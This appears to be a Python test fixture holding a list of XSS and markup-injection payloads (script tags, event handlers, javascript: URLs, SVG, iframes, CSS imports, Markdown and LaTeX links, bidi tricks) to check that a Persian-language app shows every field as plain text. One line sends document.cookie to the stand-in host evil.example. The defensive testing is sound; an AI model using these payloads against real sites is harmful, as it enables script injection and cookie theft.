"""Hostile strings pushed through every field that reaches a page (issue 9). Each must be shown as text.

The markers EVIL_HOST and the `goftar-pwned` word let the browser test find anything that became live markup,
a request or a script; none of these hosts exist and no test ever resolves them.
"""

EVIL_HOST = "evil.example"

PAYLOADS: list[str] = [
    # scripts
    "<script>window.goftarPwned=1</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>",
    "\"><script>window.goftarPwned=1</script>",
    "'><script>window.goftarPwned=1</script>",
    "</textarea><script>window.goftarPwned=1</script>",
    "</title><script>window.goftarPwned=1</script>",
    "<scr<script>ipt>window.goftarPwned=1</scr</script>ipt>",
    # event handlers
    "<img src=x onerror=window.goftarPwned=1>",
    "<img src=http://evil.example/pixel.gif>",
    "<body onload=window.goftarPwned=1>",
    "<div onmouseover=\"window.goftarPwned=1\">goftar-pwned hover</div>",
    "<details open ontoggle=window.goftarPwned=1>",
    "<input autofocus onfocus=window.goftarPwned=1>",
    "<video><source onerror=window.goftarPwned=1></video>",
    "<audio src=x onerror=window.goftarPwned=1>",
    "<marquee onstart=window.goftarPwned=1>goftar-pwned</marquee>",
    "\" onmouseover=\"window.goftarPwned=1",
    "' onfocus='window.goftarPwned=1' autofocus='",
    # javascript: and data: URLs
    "<a href=\"javascript:window.goftarPwned=1\">goftar-pwned click</a>",
    "<a href=\"http://evil.example/phish\">goftar-pwned link</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">goftar-pwned data</a>",
    "<a href=\"JaVaScRiPt:window.goftarPwned=1\">goftar-pwned</a>",
    "<a href=\"&#106;avascript:window.goftarPwned=1\">goftar-pwned</a>",
    "javascript:window.goftarPwned=1",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<form action=\"http://evil.example/post\"><button>goftar-pwned</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<base href=\"http://evil.example/\">",
    "<link rel=\"stylesheet\" href=\"http://evil.example/x.css\">",
    # svg and MathML
    "<svg onload=window.goftarPwned=1>",
    "<svg><script>window.goftarPwned=1</script></svg>",
    "<svg><a xlink:href=\"javascript:window.goftarPwned=1\"><text>goftar-pwned</text></a></svg>",
    "<svg><image href=\"http://evil.example/svg.png\"/></svg>",
    "<math><mtext><a href=\"http://evil.example/math\">goftar-pwned</a></mtext></math>",
    # iframes, objects, embeds
    "<iframe src=\"http://evil.example/frame\"></iframe>",
    "<iframe srcdoc=\"<script>parent.goftarPwned=1</script>\"></iframe>",
    "<object data=\"http://evil.example/o.swf\"></object>",
    "<embed src=\"http://evil.example/e.swf\">",
    # style and @import
    "<style>@import url(http://evil.example/i.css);</style>",
    "<style>body{background:url(http://evil.example/bg.png)}</style>",
    "<div style=\"position:fixed;inset:0;z-index:9999;background:url(http://evil.example/o.png)\">goftar-pwned</div>",
    "<a style=\"position:fixed;top:0;left:0;width:100%;height:100%\" href=\"http://evil.example/overlay\">x</a>",
    "--spk:url(http://evil.example/var.png)",
    "#1f77b4;background:url(http://evil.example/color.png)",
    # Markdown links, images, autolinks
    "[goftar-pwned](http://evil.example/md-link)",
    "![goftar-pwned](http://evil.example/md-image.png)",
    "[goftar-pwned](javascript:window.goftarPwned=1)",
    "<http://evil.example/autolink>",
    "www.evil.example/bare",
    "http://evil.example/bare-url",
    "analyst@evil.example",
    "[ref][1]\n\n[1]: http://evil.example/reference",
    "**goftar-pwned bold** _italic_ ~~strike~~ `code`",
    "# goftar-pwned heading",
    "> quote\n- list item\n1. ordered",
    "| a | b |\n|---|---|\n| goftar | pwned |",
    # Streamlit directives and emoji shortcodes
    ":red[goftar-pwned] :blue-background[x] :material/warning: :smile:",
    ":rainbow[goftar-pwned]",
    # LaTeX
    "$\\href{http://evil.example/tex}{goftar-pwned}$",
    "$$\\includegraphics{http://evil.example/tex.png}$$",
    "$x^2$ and $$y$$",
    # bidi overrides and invisible characters
    "\u202egnp.exe\u202c نام",
    "\u2067شایگو\u2069 \u202dRLO\u202c",
    "\u200f\u200e\u202aembedded\u202c",
    "null\x00byte and \x1b[31m escape",
    # template and entity tricks
    "{{7*7}} ${7*7} %{y} <%= 7*7 %>",
    "&lt;script&gt;window.goftarPwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.goftarPwned=1&#62;",
    # Persian text around hostile markup (the realistic case)
    "وزیر گفت: <img src=http://evil.example/fa.png> برجام",
    "«[ببینید](http://evil.example/fa-link)» بریکس",
]

# every field that reaches a page
FIELDS = ("text", "title", "source", "speaker", "note", "tag", "file_name", "csv_cell")
